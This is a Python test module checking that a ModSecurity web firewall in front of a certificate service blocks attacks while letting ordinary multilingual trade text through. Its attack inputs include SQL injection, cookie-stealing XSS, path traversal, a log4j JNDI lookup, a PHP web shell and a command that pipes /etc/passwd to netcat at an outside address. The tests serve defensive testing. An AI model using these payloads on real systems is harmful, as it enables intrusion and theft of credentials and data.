"""ModSecurity with the core rule set before both sites: attacks are refused, and what decent people send is not."""

import json
import zlib
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from signing.content import Kind
from signing.qr import encode_base32
from tests.applications import entry
from tests.builders import ChamberWorld
from tests.fronted import ask, form, upload
from tests.servers.echo import REACHED, Echo
from tests.servers.front import OFFICE, REFERENCE, Front

pytestmark = pytest.mark.slow

BOTH = (REFERENCE, OFFICE)
WORLD = ChamberWorld()
ISSUED = WORLD.issue(1)
DATE = str(ISSUED.issue_date)

TEXTS = (
    "東京商工会議所 原産地証明書；日本産の「緑茶」100% と抹茶（20kg×50袋）",
    '株式会社O\'Reilly & Sons Co., Ltd. (formerly "Smith -- Jones")',
    'Select grade A; union bolts M10 x 1.5, drop forged, insert type, 1/2" or 3/8"',
    "Delete the words 'FREE FROM ALL ENCUMBRANCES' & add: L/C No. 0012-IM-2026/A; table lamps where marked",
    "Order by phone: +81-3-1234-5678. Ship from/to: Kobe => Jeddah. Price: < US$ 1,000 > per m/t",
    "wooden case (CS); case (of 12); set (s); the end (see below)",
    "Cat. No. 5-300-123456; echo sounder; bash plate; curl cream 200 ml; PHP 1,000.00",
    'Windows (double glazed), script fonts, alert lamps, iframe hooks, style "A"',
    "قطع غيار السيارات؛ صنع في اليابان — Pièces détachées n° 5 – 日本製",
    "Line one\r\nLine two: see https://www.example.co.jp/products?id=5&lang=en\r\n",
)
"""What stands in applications, and looks a little like what attackers send."""

ATTACKS = {
    "SQL, or": "1' OR '1'='1' --",
    "SQL, union": "x' UNION SELECT login, password FROM account--",
    "SQL, stacked": "1; DROP TABLE records; --",
    "SQL, sleep": "1' AND SLEEP(5)#",
    "script": "<script>alert(document.cookie)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "address of script": "<a href=javascript:alert(1)>x</a>",
    "path": "../../../../etc/passwd",
    "shell": "; cat /etc/passwd | nc 203.0.113.9 4444",
    "log4j": "${jndi:ldap://203.0.113.9/a}",
    "php": "<?php system($_GET['c']); ?>",
}

AS_TRADERS_WRITE = ("SQL, or", "SQL, stacked", "SQL, sleep", "shell")
"""What differs from decent texts in nothing but who reads it: no shell does, and the database takes it for a value."""


@pytest.fixture(scope="module")
def front() -> Iterator[Front]:
    # Tests ask faster than any person or bank.
    faster = {"rate=50r/s": "rate=9999r/s", "rate=20r/s": "rate=9999r/s"}
    with Echo() as echo, Front(echo.address, echo.address, firewall=True, changes=faster) as served:
        yield served


def passes(front: Front, host: str, path: str, **asked: object) -> bool:
    answer = ask(front, host, path, **asked)  # type: ignore[arg-type]  # handed on as they are
    return answer.status == 200 and answer.body in (REACHED, b"")


@pytest.mark.parametrize("host", BOTH)
@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_refused_in_an_address_and_in_a_form(front: Front, host: str, text: str) -> None:
    body, headers = form(login=text)
    for answer in (
        ask(front, host, f"/search?q={quote(text)}"),
        ask(front, host, "/TYO/sign-in", body=body, headers=headers),
    ):
        assert answer.status == 403
        assert "looks like an attack" in answer.body.decode()
        assert answer.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("name", sorted(ATTACKS.keys() - set(AS_TRADERS_WRITE)))
def test_an_attack_is_refused_in_what_is_typed_into_an_application(front: Front, name: str) -> None:
    body, headers = form(description=ATTACKS[name])
    assert ask(front, OFFICE, "/TYO/applications", body=body, headers=headers).status == 403


@pytest.mark.parametrize("host", BOTH)
@pytest.mark.parametrize("name", ["sqlmap/1.7", "Nikto/2.5", "Mozilla/5.00 (Nikto)", "masscan/1.3", "nuclei"])
def test_a_scanner_for_holes_is_refused_by_its_name(front: Front, host: str, name: str) -> None:
    assert ask(front, host, "/", headers={"User-Agent": name}).status == 403


@pytest.mark.parametrize("host", BOTH)
@pytest.mark.parametrize(
    "path",
    ["/.git/config", "/.env", "/wp-config.php", "/static/%2e%2e/%2e%2e/etc/passwd", "/?file=../../../etc/passwd"],
)
def test_what_is_looked_for_in_other_peoples_houses_is_refused(front: Front, host: str, path: str) -> None:
    assert ask(front, host, path).status in (400, 403)


def test_an_attack_in_json_is_refused_as_a_problem_document(front: Front) -> None:
    body = json.dumps({"checks": [{"number": ATTACKS["SQL, union"], "date": DATE}]}).encode()
    answer = ask(front, REFERENCE, "/api/v1/checks", body=body, headers={"Content-Type": "application/json"})
    assert (answer.status, answer.headers["Content-Type"]) == (403, "application/problem+json")
    assert json.loads(answer.body)["code"] == "refused"


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/?lang=ja",
        f"/certificates/{ISSUED.number}/{DATE}",
        f"/certificates/{ISSUED.number}/{DATE}/compare?lang=ar",
        f"/v/{encode_base32(ISSUED.seal)}",
        f"/api/v1/certificates/{ISSUED.number}/{DATE}",
        f"/api/v1/seals/{encode_base32(ISSUED.seal)}",
        "/trust/metadata/timestamp.json",
        "/trust/metadata/1.root.json",
        "/schema/certificate.json",
        "/openapi.json",
        "/app.webmanifest",
        f"/?number={quote('ＴＹＯ－２０２６－０００１')}&date={quote('令和8年11月20日')}",
        f"/earlier/{quote('東商 第12345号')}/2019-04-01",
    ],
)
def test_ordinary_questions_reach_the_reference_service(front: Front, path: str) -> None:
    assert passes(front, REFERENCE, path)


def test_programs_of_banks_reach_the_api_whatever_they_call_themselves(front: Front) -> None:
    rows = [{"number": str(ISSUED.number), "date": DATE}, {"seal": encode_base32(ISSUED.seal)}]
    for name in ("python-requests/2.32", "Java/21", "curl/8.5", "Apache-HttpClient/5.4", "originseal-scanner/0.1"):
        kind = {"User-Agent": name, "Accept": "*/*", "Authorization": "Bearer osk_AbCdEf0123456789"}
        assert passes(front, REFERENCE, f"/api/v1/certificates/{ISSUED.number}/{DATE}", headers=kind)
        many = json.dumps({"checks": rows * 500, "evidence": True}).encode()
        assert passes(
            front, REFERENCE, "/api/v1/checks", body=many, headers=kind | {"Content-Type": "application/json"}
        )


def test_scans_and_lists_of_every_kind_reach_the_reference_service(front: Front) -> None:
    listed = f"番号,日付,備考\r\n{ISSUED.number},令和8年11月20日,{TEXTS[2]}\r\n".encode("cp932")
    noise = zlib.compress(bytes(range(256)) * 4000, 0)
    files = [
        ("一覧.csv", listed, "text/csv"),
        ("scan 1.pdf", b"%PDF-1.7\n<script>alert(1)</script>\n' OR 1=1 --\n" + noise, "application/pdf"),
        ("O'Brien & Co.tiff", noise, "image/tiff"),
    ]
    for name, data, kind in files:
        for path in ("/batch", "/check-file"):
            body, headers = upload(name, data, kind, lang="ja")
            assert passes(front, REFERENCE, path, body=body, headers=headers), (name, path)
    body, headers = form(lines=f"{ISSUED.number} 20 Nov 2026\n{ISSUED.number};2026/11/20", lang="fr")
    assert passes(front, REFERENCE, "/batch", body=body, headers=headers)


@pytest.mark.parametrize("text", TEXTS)
def test_what_traders_write_reaches_the_office(front: Front, text: str) -> None:
    for body, headers in (
        form(csrf_token="IjE2.aBcD-_ef", description=text, remarks=text),
        upload("インボイス 2026.pdf", b"%PDF-1.7\n", "application/pdf", note=text),
    ):
        assert passes(front, OFFICE, "/TYO/applications/5f0c/goods", body=body, headers=headers)


@pytest.mark.parametrize("text", ["株式会社O'Reilly & Sons", "東京 緑茶", "TYO-2026-000123", "tanaka@example.co.jp"])
def test_what_officers_look_for_reaches_the_office(front: Front, text: str) -> None:
    assert passes(front, OFFICE, f"/TYO/applications?q={quote(text)}&state=submitted&page=2")


@pytest.mark.parametrize("kind", Kind, ids=lambda kind: kind.slug)
def test_the_sample_application_of_every_kind_reaches_the_office(front: Front, kind: Kind) -> None:
    sample = entry(kind)
    fields = dict(sample.fields)
    for number, line in enumerate(sample.goods):
        fields |= {f"goods-{number}-{name}": value for name, value in line.items()}
    body, headers = form(**fields)
    assert len(fields) > 5
    assert passes(front, OFFICE, "/TYO/applications/5f0c", body=body, headers=headers)


@pytest.mark.parametrize("field", ["password", "again", "old"])
@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_a_password_may_be_anything(front: Front, field: str, text: str) -> None:
    body, headers = form(**{field: text, "csrf_token": "' OR 1=1 --"})
    cookie = {"Cookie": "__Host-office=eyJsYW5nIjoiamEifQ.aB-_cD; office=' OR '1'='1"}
    assert passes(front, OFFICE, "/TYO/sign-in", body=body, headers=headers | cookie)


def test_what_signed_programs_send_is_not_judged_by_its_looks(front: Front) -> None:
    event = json.dumps({"id": "evt_1", "data": {"object": {"description": "<script>1' OR '1'='1"}}}).encode()
    headers = {"Content-Type": "application/json; charset=utf-8", "User-Agent": "Stripe/1.0 (+https://stripe.com)"}
    assert passes(front, OFFICE, "/TYO/cards/events", body=event, headers=headers)


def test_the_firewall_writes_nothing_down(front: Front) -> None:
    ask(front, OFFICE, f"/TYO/?q={quote('<script>geheim</script>')}")
    written = "".join(
        path.read_text(errors="replace") for path in front.folder.rglob("*") if path.is_file() and "log" in path.name
    )
    assert "geheim" not in written
    assert " 403 " in front.log("office")
